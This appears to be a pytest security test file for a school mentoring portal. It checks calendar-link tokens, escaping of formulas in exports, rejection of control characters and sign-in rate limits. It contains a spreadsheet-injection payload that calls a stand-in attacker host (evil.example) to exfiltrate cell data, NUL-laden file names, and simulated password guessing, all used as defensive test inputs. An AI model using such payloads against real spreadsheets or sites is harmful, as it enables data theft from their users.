"""The portal tried like an attacker: calendar links, formulas in exports, control characters,
the sign-in limits. Each test here failed before its fix (issue #17).
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from icalendar import Calendar
from openpyxl import load_workbook
from sqlalchemy import func
from sqlmodel import col, select

from nastavnik.demo import at_nine, demo_registry
from registry.models import Mentee
from storage.db import session_scope
from storage.models import JournalEntry, School, User
from tests.web_helpers import (
    ADMIN_1,
    ADMIN_2,
    COORDINATOR,
    PASSWORD,
    TZ,
    VIEWER,
    Portal,
    build_portal,
    csrf_of,
    database_url,
    open_instance,
    signed_in,
)
from web.auth import hash_password
from web.models import CalendarLink, SignInAttempt

NOW = at_nine(date(2022, 9, 15), TZ)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Открыть")'


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.pg)])
def portal(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Portal]:
    workdir = tmp_path_factory.mktemp(f"security-{request.param}")
    with database_url(request.param, workdir) as url:
        built = build_portal(workdir, url=url, now=NOW)
        demo_registry(
            engine=built.engine, workdir=workdir, schools=["sosh1"], steps=("mentors", "mentees")
        )
        yield built
        built.engine.dispose()


@pytest.fixture(scope="module")
def clients(portal: Portal) -> Iterator[dict[str, TestClient]]:
    app = portal.app()
    made = {
        "coordinator": signed_in(app, COORDINATOR),
        "school_admin": signed_in(app, ADMIN_1),
        "other_admin": signed_in(app, ADMIN_2),
        "viewer": signed_in(app, VIEWER),
    }
    yield made
    for client in made.values():
        client.close()


def _token(client: TestClient, page: str = "/account") -> str:
    return csrf_of(client.get(page).text)


def _text(html: str) -> str:
    plain = re.sub(r"<[^>]+>", " ", html)
    for entity, char in (("&#34;", '"'), ("&quot;", '"'), ("&#39;", "'"), ("&amp;", "&")):
        plain = plain.replace(entity, char)
    return " ".join(plain.split())


# --- calendar links -------------------------------------------------------------------------------


def _old_hmac_link(secret: str, user_id: int, email: str) -> str:
    """The link the portal used to give: anyone who knew the secret, the id and the e-mail had it."""
    digest = hmac.new(secret.encode(), f"ical:{user_id}:{email}".encode(), hashlib.sha256)
    return f"/calendar/{user_id}-{digest.hexdigest()[:32]}.ics"


def _user_id(portal: Portal, email: str) -> int:
    with session_scope(portal.engine) as session:
        user = session.exec(select(User).where(User.email == email)).one()
        return user.id or 0


def test_the_old_computed_calendar_links_open_nothing(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    # signed in as school A, the attacker computes the coordinator's and school B's links
    attacker = clients["school_admin"]
    for email in (COORDINATOR, ADMIN_2):
        path = _old_hmac_link(portal.settings.secret_key, _user_id(portal, email), email)
        response = attacker.get(path)
        assert response.status_code == 404
        assert b"BEGIN:VCALENDAR" not in response.content


def _issue(client: TestClient) -> str:
    page = client.post("/account/calendar", data={"csrf_token": _token(client), "action": "issue"})
    assert page.status_code == 200, page.text
    match = re.search(r"http://testserver(/calendar/[A-Za-z0-9_-]{40,}\.ics)", page.text)
    assert match, "the new link is shown once on the page"
    return match.group(1)


def test_a_calendar_link_is_a_random_token_stored_hashed_reissued_and_revoked_from_the_users_page(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    admin = clients["school_admin"]
    account = admin.get("/account")
    assert account.status_code == 200 and "Получить ссылку на календарь" in account.text
    first = _issue(admin)
    feed = TestClient(portal.app(), raise_server_exceptions=False).get(first)  # no cookie
    assert feed.status_code == 200 and feed.headers["content-type"].startswith("text/calendar")
    assert b"BEGIN:VCALENDAR" in feed.content and b"(sosh2)" not in feed.content
    token = first.removeprefix("/calendar/").removesuffix(".ics")
    with session_scope(portal.engine) as session:
        stored = [link.token_hash for link in session.exec(select(CalendarLink))]
    assert token not in stored and hashlib.sha256(token.encode()).hexdigest() in stored
    assert token not in admin.get("/account").text, "the link is shown only when issued"
    assert "календарь последний раз обращался" in admin.get("/account").text

    second = _issue(admin)
    assert second != first
    assert admin.get(first).status_code == 404, "re-issuing ends the old link"
    assert admin.get(second).status_code == 200

    revoked = admin.post(
        "/account/calendar", data={"csrf_token": _token(admin), "action": "revoke"}
    )
    assert revoked.status_code == 303
    assert admin.get(second).status_code == 404
    with session_scope(portal.engine) as session:
        acts = session.exec(
            select(JournalEntry.action).where(col(JournalEntry.action).like("calendar_link_%"))
        ).all()
    assert list(acts).count("calendar_link_issue") >= 2 and "calendar_link_revoke" in acts


def test_a_coordinators_calendar_covers_every_school_and_dies_with_the_account(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    link = _issue(clients["viewer"])
    feed = clients["viewer"].get(link)
    assert feed.status_code == 200
    # every school's deadlines, each named as people know the school, never by its id
    summaries = [str(e["summary"]) for e in Calendar.from_ical(feed.content).walk("VEVENT")]
    with session_scope(portal.engine) as session:
        names = {s.id: s.short_name for s in session.exec(select(School))}
    assert any(f"({names['sosh2']})" in summary for summary in summaries)
    assert not any(f"({school_id})" in summary for summary in summaries for school_id in names)
    with session_scope(portal.engine) as session:
        viewer = session.exec(select(User).where(User.email == VIEWER)).one()
        viewer.active = False
        session.add(viewer)
    try:
        gone = clients["coordinator"].get(link)
        assert gone.status_code == 404 and "Ссылка на календарь недействительна" in gone.text
    finally:
        with session_scope(portal.engine) as session:
            viewer = session.exec(select(User).where(User.email == VIEWER)).one()
            viewer.active = True
            session.add(viewer)


# --- formulas in exports --------------------------------------------------------------------------


def _mentee_with_formula(portal: Portal, client: TestClient) -> None:
    response = client.post(
        "/schools/sosh1/registry/people/mentee",
        data={
            "csrf_token": _token(client, "/schools/sosh1/registry"),
            "full_name": "Ложкин Пётр Ильич",
            "category": "pupil",
            "school_class": "7 Б",
            "age": "13",
            "request": FORMULA,
        },
    )
    assert response.status_code == 303, response.text
    with session_scope(portal.engine) as session:
        stored = session.exec(select(Mentee).where(Mentee.full_name == "Ложкин Пётр Ильич")).one()
    assert stored.request == FORMULA, "stored as the text that was typed"


def test_a_formula_typed_into_the_registry_is_exported_as_text_to_csv_and_xlsx(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    admin = clients["school_admin"]
    _mentee_with_formula(portal, admin)
    page = admin.get("/schools/sosh1/registry")
    assert FORMULA not in page.text, "the page escapes it"
    assert FORMULA in _text(page.text)

    response = admin.get("/schools/sosh1/registry/export?kind=mentees&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    response = admin.get("/schools/sosh1/registry/export?kind=mentees&format=xlsx")
    _assert_no_formulas(response.content, FORMULA)


def _assert_no_formulas(data: bytes, expected_text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert b"<f>" not in xml and b"<f " not in xml, "no cell is a formula"
    book = load_workbook(io.BytesIO(data))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == expected_text
    ]
    assert found, "the value is kept as typed"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)


def test_a_formula_in_a_school_name_is_exported_as_text_to_the_matrix_xlsx(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    with session_scope(portal.engine) as session:
        school = session.get(School, "sosh3")
        assert school is not None
        was = school.name, school.short_name
        school.name = school.short_name = "=1+2"  # as a schools file could bring it
        session.add(school)
    try:
        response = clients["coordinator"].get("/export.xlsx")
        assert response.status_code == 200
        _assert_no_formulas(response.content, "=1+2")
    finally:
        with session_scope(portal.engine) as session:
            school = session.get(School, "sosh3")
            assert school is not None
            school.name, school.short_name = was
            session.add(school)


# --- control characters ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        ("/signin", {"email": "sosh1\x00@beloyarsky-edu.example.ru", "password": "x" * 9}),
        ("/signin", {"email": ADMIN_1, "password": "pass\x00word"}),
        ("/signin/link", {"email": "a\x00@b.ru"}),
        ("/signin/link", {"email": "a\x1b@b.ru"}),
    ],
)
def test_a_control_character_before_sign_in_gets_a_400_page_and_the_next_request_works(
    portal: Portal, path: str, fields: dict[str, str]
) -> None:
    client = TestClient(portal.app(), raise_server_exceptions=False, follow_redirects=False)
    token = csrf_of(client.get("/signin").text)
    response = client.post(path, data={"csrf_token": token, **fields})
    assert response.status_code == 400
    assert "недопустимый невидимый символ" in response.text
    assert "<h1>Недопустимый символ</h1>" in response.text
    assert client.get("/signin").status_code == 200
    client.post("/signin", data={"csrf_token": token, "email": ADMIN_1, "password": PASSWORD})
    assert client.get("/schools/sosh1").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/schools/sosh%001",
        "/schools/sosh1/registry/mentee-1%00",
        "/matrix?run=beloyarsky%002022",
        "/schools/sosh1?run=%00",
        "/steps/1.4%00",
        "/instances/1%00",
        "/schools/sosh1/registry?q=%7F",
        "/calendar/abc%00.ics",
        "/signin?next=/%00",
    ],
)
def test_a_control_character_in_an_address_gets_a_400_page(
    clients: dict[str, TestClient], path: str
) -> None:
    coordinator = clients["coordinator"]
    response = coordinator.get(path)
    assert response.status_code == 400, response.text
    assert "Адрес страницы содержит недопустимый невидимый символ" in _text(response.text)
    assert coordinator.get("/matrix").status_code == 200


def _journal_size(portal: Portal) -> int:
    with session_scope(portal.engine) as session:
        return int(session.exec(select(func.count()).select_from(JournalEntry)).one())


@pytest.mark.parametrize(
    ("action", "fields", "message"),
    [
        ("done", {"number": "12\x00-од", "doc_date": "2022-09-01"}, "Поле «Номер документа»"),
        ("done", {"number": "12\n-од", "doc_date": "2022-09-01"}, "Поле «Номер документа»"),
        ("na", {"reason": "не\x00нужно"}, "Поле «Причина»"),
    ],
)
def test_a_control_character_in_a_step_form_saves_nothing(
    portal: Portal,
    clients: dict[str, TestClient],
    action: str,
    fields: dict[str, str],
    message: str,
) -> None:
    admin = clients["school_admin"]
    instance = open_instance(portal.engine, school="sosh1")
    before = _journal_size(portal)
    response = admin.post(
        f"/instances/{instance.id}/{action}",
        data={
            "csrf_token": _token(admin, "/schools/sosh1"),
            "version": str(instance.version),
            **fields,
        },
    )
    assert response.status_code == 400
    assert message in _text(response.text)
    assert _journal_size(portal) == before


def test_a_line_break_in_a_multi_line_field_is_kept(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    admin = clients["school_admin"]
    response = admin.post(
        "/schools/sosh1/registry/people/mentee",
        data={
            "csrf_token": _token(admin, "/schools/sosh1/registry"),
            "full_name": "Строкова Анна Ивановна",
            "category": "pupil",
            "school_class": "5 А",
            "age": "11",
            "request": "чтение\r\nи письмо",
        },
    )
    assert response.status_code == 303, response.text


def test_a_control_character_in_an_uploaded_file_name_saves_nothing(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    admin = clients["school_admin"]
    instance = open_instance(portal.engine, school="sosh1")
    before = _journal_size(portal)
    fields = {
        "csrf_token": _token(admin, "/schools/sosh1"),
        "version": str(instance.version),
        "number": "5-од",
        "doc_date": "2022-09-01",
    }
    # written by hand: httpx would escape the NUL in a file name, an attacker's client does not
    boundary = "b0undary"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    ]
    body = (
        "".join(parts).encode()
        + (
            f'--{boundary}\r\nContent-Disposition: form-data; name="scan"; filename="скан\x00.pdf"'
            "\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n%%EOF\n\r\n"
            f"--{boundary}--\r\n"
        ).encode()
    )
    response = admin.post(
        f"/instances/{instance.id}/done",
        content=body,
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert response.status_code == 400
    assert "Имя файла содержит недопустимый невидимый символ" in _text(response.text)
    assert _journal_size(portal) == before


@pytest.mark.parametrize(
    ("action", "fields", "field_message"),
    [
        ("done", {"number": "\u200b", "doc_date": "2022-09-01"}, "Укажите номер документа"),
        ("done", {"number": " \u200b\u2060 ", "doc_date": "2022-09-01"}, "Укажите номер"),
        ("na", {"reason": "\u200b\u200b"}, "Укажите причину"),
        ("na", {"reason": "\ufeff \u200d"}, "Укажите причину"),
    ],
)
def test_invisible_text_is_not_a_document_number_or_a_reason(
    portal: Portal,
    clients: dict[str, TestClient],
    action: str,
    fields: dict[str, str],
    field_message: str,
) -> None:
    admin = clients["school_admin"]
    instance = open_instance(portal.engine, school="sosh1")
    before = _journal_size(portal)
    response = admin.post(
        f"/instances/{instance.id}/{action}",
        data={
            "csrf_token": _token(admin, "/schools/sosh1"),
            "version": str(instance.version),
            **fields,
        },
    )
    assert response.status_code == 400
    assert field_message in response.text
    assert _journal_size(portal) == before


# --- sign-in limits -------------------------------------------------------------------------------


def _sign_in(client: TestClient, email: str, password: str) -> int:
    token = csrf_of(client.get("/signin").text)
    response = client.post(
        "/signin", data={"csrf_token": token, "email": email, "password": password}
    )
    return response.status_code


def _clear_attempts(portal: Portal) -> None:
    with session_scope(portal.engine) as session:
        for attempt in session.exec(select(SignInAttempt)):
            session.delete(attempt)


def test_twenty_one_colleagues_behind_one_proxy_all_sign_in(portal: Portal) -> None:
    # the old limit counted 20 sign-ins per address, successful ones included: the 21st was refused
    _clear_attempts(portal)
    password_hash = hash_password(PASSWORD)  # hashed once: argon2 is slow on purpose
    with session_scope(portal.engine) as session:
        for index in range(21):
            email = f"teacher{index}@beloyarsky-edu.example.ru"
            if session.exec(select(User).where(User.email == email)).first() is None:
                session.add(
                    User(email=email, role="viewer", password_hash=password_hash, created_at=NOW)
                )
    app = portal.app()
    # one address (the proxy's), one morning
    for index in range(21):
        client = TestClient(app, raise_server_exceptions=False, follow_redirects=False)
        status = _sign_in(client, f"teacher{index}@beloyarsky-edu.example.ru", PASSWORD)
        assert status == 303, f"colleague {index + 1} was refused"


def test_password_guessing_is_stopped_per_account_across_worker_processes(portal: Portal) -> None:
    _clear_attempts(portal)
    # two portals over one database stand for two worker processes
    workers = [portal.app(), portal.app()]
    for attempt in range(5):
        client = TestClient(workers[attempt % 2], raise_server_exceptions=False)
        assert _sign_in(client, ADMIN_2, f"wrong-{attempt}-password") == 400
    for app in workers:
        client = TestClient(app, raise_server_exceptions=False, follow_redirects=False)
        assert _sign_in(client, ADMIN_2, PASSWORD) == 429, "even the right password waits"
    # another account from the same address is not locked
    client = TestClient(workers[0], raise_server_exceptions=False, follow_redirects=False)
    assert _sign_in(client, ADMIN_1, PASSWORD) == 303
    # after the window the account signs in again
    later = portal.app(NOW + timedelta(minutes=16))
    client = TestClient(later, raise_server_exceptions=False, follow_redirects=False)
    assert _sign_in(client, ADMIN_2, PASSWORD) == 303


def test_one_address_trying_many_accounts_is_stopped(portal: Portal) -> None:
    _clear_attempts(portal)
    # 29 failures on 29 accounts already counted for this address (as real attempts write them)
    with session_scope(portal.engine) as session:
        for index in range(29):
            session.add(
                SignInAttempt(
                    kind="password_failure",
                    at=NOW - timedelta(minutes=5),
                    address="testclient",
                    email=f"guess{index}@beloyarsky-edu.example.ru",
                )
            )
    client = TestClient(portal.app(), raise_server_exceptions=False, follow_redirects=False)
    assert _sign_in(client, "guess29@beloyarsky-edu.example.ru", "password123") == 400
    assert _sign_in(client, "guess30@beloyarsky-edu.example.ru", "password123") == 429
    assert _sign_in(client, COORDINATOR, PASSWORD) == 429, "the address waits, whatever account"
    _clear_attempts(portal)


def test_sign_in_links_are_limited_per_account(portal: Portal) -> None:
    _clear_attempts(portal)
    client = TestClient(portal.app(), raise_server_exceptions=False, follow_redirects=False)
    token = csrf_of(client.get("/signin").text)
    statuses = [
        client.post("/signin/link", data={"csrf_token": token, "email": ADMIN_1}).status_code
        for _ in range(6)
    ]
    assert statuses == [200] * 5 + [429]
    _clear_attempts(portal)


# --- dates of unscheduled steps -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("due", "start", "field_message"),
    [
        ("9999-12-31", "", "вне периода дорожной карты"),
        ("2024-06-01", "", "допустимы даты с"),
        ("2022-10-31", "1999-01-01", "вне периода дорожной карты"),
    ],
)
def test_dates_of_an_unscheduled_step_stay_within_a_year_around_the_roadmaps_period(
    portal: Portal, clients: dict[str, TestClient], due: str, start: str, field_message: str
) -> None:
    coordinator = clients["coordinator"]
    before = _journal_size(portal)
    response = coordinator.post(
        "/steps/3.4/schedule",
        data={
            "csrf_token": _token(coordinator, "/steps/3.4"),
            "run": "beloyarsky-2022",
            "due": due,
            "start": start,
            "school": "",
        },
    )
    assert response.status_code == 400
    assert field_message in _text(response.text)
    assert _journal_size(portal) == before
    # a date inside the period is taken, and /matrix stays quick to build
    good = coordinator.post(
        "/steps/3.4/schedule",
        data={
            "csrf_token": _token(coordinator, "/steps/3.4"),
            "run": "beloyarsky-2022",
            "due": "2022-12-20",
            "start": "",
            "school": "",
        },
    )
    assert good.status_code == 303


# --- technical words ------------------------------------------------------------------------------


def test_pages_name_technical_actors_and_runs_in_russian(
    portal: Portal, clients: dict[str, TestClient]
) -> None:
    from definitions.loader import find_roadmap
    from engine.roadmap_launch import launch_roadmap
    from storage.models import RoadmapRun, StepInstance

    with session_scope(portal.engine) as session:
        if session.exec(select(func.count()).select_from(RoadmapRun)).one() < 2:
            launch_roadmap(
                session=session,
                loaded=find_roadmap("chaikovsky-2022-2023"),
                now=NOW,
                by=COORDINATOR,
            )
        run = session.exec(
            select(RoadmapRun).where(RoadmapRun.roadmap_id == "beloyarsky-2022")
        ).one()
        closed = session.exec(
            select(StepInstance).where(
                StepInstance.run_id == run.id,
                StepInstance.unit == "sosh1",
                col(StepInstance.state).in_(("done", "done_late")),
            )
        ).all()
        assert len(closed) >= 2
        closed[0].done_by, closed[1].done_by = "registry", "cli"
        session.add_all(closed[:2])
    page = clients["coordinator"].get("/schools/sosh1?run=beloyarsky-2022").text
    text = _text(page)
    assert "(реестр наставничества (автоматически))" in text
    assert "(администратор (командная строка))" in text
    assert "(registry)" not in text and "(cli)" not in text
    picker = page.split('<select id="run"', 1)[1].split("</select>", 1)[0]
    assert "beloyarsky-2022</option>" not in picker and run.title in picker
